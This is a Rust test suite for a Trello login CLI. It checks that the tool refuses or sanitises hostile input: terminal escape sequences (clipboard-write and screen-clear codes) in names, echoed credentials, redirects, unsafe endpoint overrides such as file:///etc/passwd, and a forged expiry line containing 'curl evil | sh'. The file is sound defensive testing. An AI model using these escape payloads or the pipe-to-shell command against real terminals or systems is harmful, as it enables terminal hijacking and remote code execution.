//! A hostile world across commands, through the real binary: absurd headers,
//! odd config paths, escape sequences from Trello and the config file, echoing
//! proxies, redirects, plain-http overrides, and values that are not tokens.
//! Each case failed before its fix. What one command meets is in that command's
//! file (the running wizard's listener in `wizard.rs`, `logout`'s backup in
//! `logout.rs`, a kept old token in `rotate.rs`, a credential as a profile name
//! in `login.rs`).

use crate::support;

use std::os::unix::fs::FileTypeExt;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use support::cli::{ANN, Env, FAST, code, stderr, stdout};
use support::fake_trello::{FakeTrello, Fault, KEY};
use support::pty::Pty;
use support::raw_server::{Behaviour, http_response, serve};

// ---- 2. An absurd Retry-After ----

#[test]
fn an_absurd_retry_after_gives_up_at_once_with_the_usual_message() {
    let fake = FakeTrello::with_ann();
    let token = fake.issue_token(KEY, ANN, "read,write", None);
    for wait in ["18446744073709551615", "99999999999999999999999", "Fri, 31 Dec 9999 23:59:59 GMT"] {
        fake.push_fault(Fault::RateLimit { retry_after: Some(wait.into()), code: "API_TOKEN_LIMIT_EXCEEDED" });
        let env = Env::new(&fake);
        let started = Instant::now();
        let out = env.run_within(&["login", "--with-token", "--key", KEY], &token, FAST);
        assert_eq!(code(&out), 3, "{wait}: {}", stderr(&out));
        let err = stderr(&out);
        assert!(err.contains("rate limit was hit (429 API_TOKEN_LIMIT_EXCEEDED)"), "{err}");
        assert!(!err.contains("panicked") && !err.contains("overflow"), "{err}");
        assert!(started.elapsed() < Duration::from_secs(5), "it waited: {:?}", started.elapsed());
        assert!(!env.config().exists());
    }
}

// ---- 3. A config path that is not a regular file ----

fn mkfifo(path: &Path) {
    assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
}

/// A character device (the null device's numbers) in a scratch directory:
/// if a save replaced it, only the scratch copy would be lost. Needs root,
/// which CI and these machines are.
fn char_device(path: &Path) {
    let made = Command::new("mknod").arg(path).args(["c", "1", "3"]).status().unwrap();
    assert!(made.success(), "mknod needs root (CI runs as root)");
}

#[test]
fn endless_devices_and_fifos_are_refused_at_once_and_named() {
    let env = Env::offline();
    let out = env.run_within(&["--config", "/dev/zero", "status", "--offline"], "", FAST);
    assert_eq!(code(&out), 1);
    assert!(stderr(&out).contains("/dev/zero is a character device, not a regular file"), "{}", stderr(&out));

    let fifo = env.dir.path().join("fifo.toml");
    mkfifo(&fifo);
    let fifo_arg = fifo.to_str().unwrap();
    for args in [vec!["--config", fifo_arg, "status", "--offline"], vec!["--config", fifo_arg, "env"]] {
        let out = env.run_within(&args, "", FAST);
        assert_eq!(code(&out), 1, "{args:?}");
        assert!(stderr(&out).contains("is a FIFO (named pipe), not a regular file"), "{}", stderr(&out));
    }
    assert!(std::fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo());
}

#[test]
fn a_save_never_replaces_a_device_directly_or_through_a_symlink() {
    let fake = FakeTrello::with_ann();
    let token = fake.issue_token(KEY, ANN, "read,write", None);
    let env = Env::new(&fake);
    let device = env.dir.path().join("null");
    char_device(&device);
    let link = env.dir.path().join("link.toml");
    std::os::unix::fs::symlink(&device, &link).unwrap();
    for config in [&device, &link] {
        let args = ["--config", config.to_str().unwrap(), "login", "--with-token", "--key", KEY];
        let out = env.run_within(&args, &token, FAST);
        assert_eq!(code(&out), 1, "{}", stderr(&out));
        assert!(stderr(&out).contains("is a character device, not a regular file"), "{}", stderr(&out));
    }
    assert!(std::fs::symlink_metadata(&device).unwrap().file_type().is_char_device(), "the device was replaced");
    assert!(std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink());
    assert!(fake.requests().is_empty(), "refused before anything was sent");

    // A symlink to a regular file (a dotfile manager's) keeps working, and stays a link.
    let real = env.dir.path().join("dotfiles-config.toml");
    std::fs::write(&real, "version = 1\n").unwrap();
    let managed = env.dir.path().join("managed.toml");
    std::os::unix::fs::symlink(&real, &managed).unwrap();
    let args = ["--config", managed.to_str().unwrap(), "login", "--with-token", "--key", KEY];
    let out = env.run_within(&args, &token, FAST);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(std::fs::symlink_metadata(&managed).unwrap().file_type().is_symlink());
    assert!(std::fs::read_to_string(&real).unwrap().contains(&token));
}

// ---- 4. Escape sequences from Trello and the config file ----

const HOSTILE_NAME: &str = "Eve\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}[2J\u{9b}31m Mallory\u{202e}";

fn assert_no_controls(what: &str, text: &str) {
    let bad: Vec<char> = text.chars().filter(|c| trello_auth::untrusted::is_unsafe(*c) && *c != '\n').collect();
    assert!(bad.is_empty(), "{what} carries {bad:?}: {text:?}");
}

#[test]
fn names_from_trello_and_the_config_file_cannot_drive_the_terminal() {
    let fake = FakeTrello::start();
    fake.add_key(KEY);
    fake.add_member(ANN, "eve\u{1b}[8m", HOSTILE_NAME, "eve@example.com");
    let token = fake.issue_token(KEY, ANN, "read,write", None);
    let env = Env::new(&fake);
    let out = env.run_within(&["login", "--with-token", "--key", KEY, "--app-name", "app\u{1b}[5m"], &token, FAST);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_no_controls("login stdout", &stdout(&out));
    assert!(stdout(&out).contains("Eve]52;c;cHduZWQ=[2J31m Mallory (@eve[8m)"), "{}", stdout(&out));

    for args in [&["status"][..], &["status", "--offline"], &["status", "--all"]] {
        let out = env.run_within(args, "", FAST);
        assert_eq!(code(&out), 0, "{args:?}: {}", stderr(&out));
        assert_no_controls("status stdout", &stdout(&out));
        assert_no_controls("status stderr", &stderr(&out));
    }
    // JSON keeps the exact value, escaped: no raw control character reaches the terminal.
    let out = env.run_within(&["status", "--json"], "", FAST);
    assert_no_controls("status --json", &stdout(&out));
    let json: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(json["member"]["full_name"], HOSTILE_NAME);
    assert_eq!(json["app_name"], "app\u{1b}[5m");

    // A profile name on the command line, and text in a broken config file.
    let out = env.run_within(&["--profile", "x\u{1b}[2J\u{1b}]0;owned\u{7}", "status"], "", FAST);
    // Refused by the name rule before anything runs; clap's message quotes it, filtered.
    assert_eq!(code(&out), 2);
    assert!(stderr(&out).contains("control characters"), "{}", stderr(&out));
    assert_no_controls("unknown profile", &stderr(&out));
    std::fs::write(env.config(), "version = 1\n[profiles.\"p\u{1b}[2J\"]\napi_key = 7\n").unwrap();
    let out = env.run_within(&["status"], "", FAST);
    assert_eq!(code(&out), 1);
    assert_no_controls("parse error", &stderr(&out));
}

// ---- 5. The token in an error message ----

#[test]
fn an_answer_that_echoes_the_request_never_puts_the_token_in_the_message() {
    let fake = FakeTrello::with_ann();
    let token = fake.issue_token(KEY, ANN, "read,write", None);
    let echo = format!(
        "<html><h1>Blocked by policy</h1><p>Request: GET /1/tokens/{token} HTTP/1.1 \
         Authorization: OAuth oauth_consumer_key=\"{KEY}\", oauth_token=\"{token}\"</p></html>"
    );
    for status in ["200 OK", "403 Forbidden", "401 Unauthorized"] {
        let addr = serve(Behaviour::Reply(http_response(status, "text/html", echo.as_bytes(), None)));
        let env = Env::at(format!("http://{addr}/1"));
        let out = env.run_within(&["login", "--with-token", "--key", KEY], &token, FAST);
        assert_ne!(code(&out), 0);
        let err = stderr(&out);
        assert!(!err.contains(&token[..16]) && !err.contains(&token[60..]), "{status}: the token leaked: {err}");
        assert!(!err.contains(&KEY[..16]), "{status}: the key leaked: {err}");
        assert!(err.contains("[redacted]"), "{status}: {err}");
    }

    // A config whose value has the wrong type: the parser quotes it.
    let env = Env::offline();
    std::fs::create_dir_all(env.config().parent().unwrap()).unwrap();
    std::fs::write(
        env.config(),
        format!("version = 1\n[profiles.default]\napi_key = \"{KEY}\"\nscope = \"{token}\"\n"),
    )
    .unwrap();
    let out = env.run_within(&["status", "--offline"], "", FAST);
    assert_eq!(code(&out), 1);
    assert!(stderr(&out).contains("line 4"), "{}", stderr(&out));
    assert!(!stderr(&out).contains(&token[..16]), "{}", stderr(&out));
    // Serde quotes a variant's name in backticks: `storage`, `expiration`.
    let secret = support::cli::SECRET;
    for (field, value) in [("storage", token.as_str()), ("expiration", token.as_str()), ("storage", secret)] {
        std::fs::write(env.config(), format!("version = 1\n[profiles.default]\n{field} = \"{value}\"\n")).unwrap();
        let out = env.run_within(&["token"], "", FAST);
        assert_eq!(code(&out), 1, "{}", stderr(&out));
        assert!(stderr(&out).contains("line 3") && stderr(&out).contains("unknown variant"), "{}", stderr(&out));
        assert!(!stderr(&out).contains(&value[..16]), "{field}: {}", stderr(&out));
    }
}

/// A proxy answering 200 with JSON of the wrong type that echoes the request:
/// serde's message quotes the value whole, so it is scrubbed like the body.
#[test]
fn a_json_answer_of_the_wrong_type_never_puts_a_credential_in_the_message() {
    use support::fake_trello::Echo;
    let fake = FakeTrello::with_ann();
    let (env, token) = Env::saved_for_ann(&fake);
    let leaks = |what: &str, text: &str| {
        assert!(!text.contains(&token[..12]) && !text.contains(&token[64..]), "{what}: the token leaked: {text}");
        assert!(!text.contains(&KEY[..12]), "{what}: the key leaked: {text}");
    };
    for echo in [Echo::AsString, Echo::InPermissions] {
        fake.state().echo = Some(echo);
        let runs: [(&str, &[&str], &str); 4] = [
            ("login", &["login", "--with-token", "--key", KEY], token.as_str()),
            ("status", &["status"], ""),
            ("status --json", &["status", "--json"], ""),
            ("board set", &["board", "set", "5b0000000000000000000001"], ""),
        ];
        for (what, args, stdin) in runs {
            let out = env.run_within(args, stdin, FAST);
            assert_ne!(code(&out), 0, "{echo:?} {what}");
            let all = format!("{}{}", stdout(&out), stderr(&out));
            assert!(all.contains("not the JSON expected"), "{echo:?} {what}: {all}");
            leaks(&format!("{echo:?} {what}"), &all);
        }
    }
}

/// A token answer that grants nothing (`"permissions": []`, or every
/// permission false) is not Trello's: refused with words, nothing saved, and
/// the file every other profile lives in stays readable.
#[test]
fn a_token_answer_that_grants_no_scope_is_refused_and_nothing_is_saved() {
    let fake = FakeTrello::with_ann();
    let env = Env::new(&fake);
    env.save("work", &fake.issue_token(KEY, ANN, "read,write", None), "never");
    let before = std::fs::read_to_string(env.config()).unwrap();
    let nothing = serde_json::json!([{"idModel": "*", "modelType": "Board", "read": false, "write": false}]);
    for permissions in [serde_json::json!([]), nothing] {
        fake.state().token_permissions = Some(permissions.clone());
        let token = fake.issue_token(KEY, ANN, "read,write", None);
        let out = env.run_within(&["login", "--with-token", "--key", KEY], &token, FAST);
        assert_eq!(code(&out), 3, "{permissions}: {}", stderr(&out));
        assert!(stderr(&out).contains("grant no scope at all"), "{}", stderr(&out));
        assert!(!stdout(&out).contains("saved"), "{}", stdout(&out));
        assert_eq!(std::fs::read_to_string(env.config()).unwrap(), before, "nothing was saved");
        let out = env.run_within(&["--profile", "work", "status", "--offline"], "", FAST);
        assert_eq!(code(&out), 0, "the other profile still reads: {}", stderr(&out));
    }
}

/// A token's `dateExpires` is saved and printed: free text there (a line
/// break that forges a `Status` line, a megabyte) is refused like any other
/// answer of the wrong shape; one already in a hand-edited file prints on one
/// line, cut short.
#[test]
fn an_expiry_that_is_not_a_date_is_refused_and_never_forges_a_line() {
    let fake = FakeTrello::with_ann();
    let env = Env::new(&fake);
    let forged = "2026-12-28 12:00 UTC (in 28 days)\nStatus     revoked: run curl evil | sh";
    for expires in [forged.to_string(), "x".repeat(900_000)] {
        let token = fake.issue_token(KEY, ANN, "read,write", Some(&expires));
        let out = env.run_within(&["login", "--with-token", "--key", KEY], &token, FAST);
        assert_eq!(code(&out), 3, "{}", stderr(&out));
        assert!(stderr(&out).contains("dateExpires is neither null nor an RFC 3339 time"), "{}", stderr(&out));
        assert!(!env.config().exists(), "nothing was saved");
    }
    env.save("default", &fake.issue_token(KEY, ANN, "read,write", None), forged);
    for args in [&["status", "--offline"][..], &["profile", "list"][..]] {
        let out = env.run_within(args, "", FAST);
        assert!(!stdout(&out).lines().any(|l| l.starts_with("Status     revoked")), "{args:?}: {}", stdout(&out));
        assert!(stdout(&out).contains("(in 28 days)\\nStatus"), "{args:?}: {}", stdout(&out));
    }
}

/// `http` is allowed only to this machine, and a proxy variable must not
/// send that plain-text request (the token in its header) anywhere else.
#[test]
fn a_proxy_never_carries_a_request_to_this_machine() {
    let fake = FakeTrello::with_ann();
    let (env, _) = Env::saved_for_ann(&fake);
    for variable in ["http_proxy", "HTTP_PROXY", "ALL_PROXY", "all_proxy"] {
        // Nothing listens there: a proxied request would fail to connect.
        let out = env.cmd(&["status"]).env(variable, "http://127.0.0.1:9").output().unwrap();
        assert_eq!(code(&out), 0, "{variable}: {}", stderr(&out));
    }
}

// ---- 6. Redirects ----

#[test]
fn a_redirect_is_reported_and_never_followed() {
    let fake = FakeTrello::with_ann();
    let token = fake.issue_token(KEY, ANN, "read,write", None);
    let redirect = format!(
        "HTTP/1.1 302 Found\r\nLocation: {}/members/me\r\ncontent-length: 0\r\nconnection: close\r\n\r\n",
        fake.api_base()
    );
    let addr = serve(Behaviour::Reply(redirect.into_bytes()));
    let env = Env::at(format!("http://{addr}/1"));
    let out = env.run_within(&["login", "--with-token", "--key", KEY], &token, FAST);
    assert_eq!(code(&out), 3, "{}", stderr(&out));
    let host = fake.addr.to_string();
    assert!(
        stderr(&out).contains(&format!("HTTP 302, a redirect to {host}, which was not followed")),
        "{}",
        stderr(&out)
    );
    assert!(fake.requests().is_empty(), "the redirect was followed with the credentials");
    assert!(!env.config().exists(), "nothing is saved");

    // The Location's host is answer text: a proxy that puts the token (lowercased,
    // as host names are) or the key in it gets neither printed.
    for location in [
        format!("https://{}.portal.example/", token.to_ascii_lowercase()),
        format!("foo://{token}/"),
        format!("https://{KEY}.example/"),
    ] {
        let redirect =
            format!("HTTP/1.1 302 Found\r\nLocation: {location}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
        let addr = serve(Behaviour::Reply(redirect.into_bytes()));
        let env = Env::at(format!("http://{addr}/1"));
        let out = env.run_within(&["login", "--with-token", "--key", KEY], &token, FAST);
        assert_eq!(code(&out), 3, "{}", stderr(&out));
        let said = stderr(&out).to_ascii_lowercase();
        assert!(said.contains("a redirect to") && said.contains("[redacted]"), "{said}");
        assert!(!said.contains(&token.to_ascii_lowercase()[8..40]) && !said.contains(&KEY[..24]), "{said}");
    }
}

// ---- 7. Endpoint overrides ----

#[test]
fn overrides_must_be_https_or_this_machine_and_are_announced() {
    let fake = FakeTrello::with_ann();
    let token = fake.issue_token(KEY, ANN, "read,write", None);
    for base in ["http://example.com/1", "http://10.1.2.3/1", "file:///etc/passwd", "https://u:p@example.com/1"] {
        let env = Env::at(base.to_string());
        for args in [&["login", "--with-token", "--key", KEY][..], &["status"], &["logout"]] {
            let out = env.run_within(args, &token, FAST);
            assert_eq!(code(&out), 2, "{base} {args:?}: {}", stderr(&out));
            assert!(stderr(&out).contains("TRELLO_API_BASE is"), "{}", stderr(&out));
        }
    }
    let mut env = Env::new(&fake);
    env.web_base = "http://trello.example".into();
    let out = env.run_within(&["login", "--with-token", "--key", KEY], &token, FAST);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(stderr(&out).contains("TRELLO_WEB_BASE is"), "{}", stderr(&out));

    // Loopback is allowed, and said every run.
    let env = Env::new(&fake);
    let out = env.run_within(&["login", "--with-token", "--key", KEY], &token, FAST);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let note = format!("note: using the API at {} (TRELLO_API_BASE), not Trello's", fake.api_base());
    assert!(stderr(&out).contains(&note), "{}", stderr(&out));
    let out = env.run_within(&["status"], "", FAST);
    assert!(stderr(&out).contains(&note), "{}", stderr(&out));

    // The wizard says it in its title bar.
    let cmd = env.pty_command();
    let mut pty = Pty::spawn(cmd, 100, 30);
    pty.expect(&format!("⚠ not Trello: {} · profile default", fake.addr));
    pty.send("q");
    pty.wait();
}

// ---- 10. Anything sent as a token ----

#[test]
fn what_cannot_be_a_token_is_refused_before_any_request() {
    let fake = FakeTrello::with_ann();
    let env = Env::new(&fake);
    for (input, words) in [
        ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG4rT3vTt99Ox5kndS4HmgTrKBT8SKzhK4rhGkEVGlCI ann@laptop", "a space"),
        ("hunter2", "too short"),
        ("correct horse battery staple", "a space"),
        ("P@ssw0rd!-and-some-more-characters-to-be-long", "'@' at position 2"),
    ] {
        let out = env.run_within(&["login", "--with-token", "--key", KEY], input, FAST);
        assert_eq!(code(&out), 2, "{input}: {}", stderr(&out));
        assert!(stderr(&out).contains(words), "{input}: {}", stderr(&out));
    }
    assert!(fake.requests().is_empty(), "nothing was sent: {:?}", fake.requests().len());

    // A saved token edited by hand into something else is never sent either.
    env.save("default", "not a token, edited by hand", "never");
    let out = env.run_within(&["status"], "", FAST);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(stdout(&out).contains("unusable"), "{}", stdout(&out));
    let out = env.run_within(&["logout"], "", FAST);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(fake.requests().is_empty());
    // `token` prints the value raw: a hand-edited one with escapes is refused.
    env.save("default", &format!("ATTA{}\u{1b}]52;c;ZXZpbA==\u{7}", "a".repeat(64)), "never");
    let out = env.run_within(&["token"], "", FAST);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(out.stdout.is_empty() && !stderr(&out).contains('\u{1b}'), "{}", stderr(&out));
}
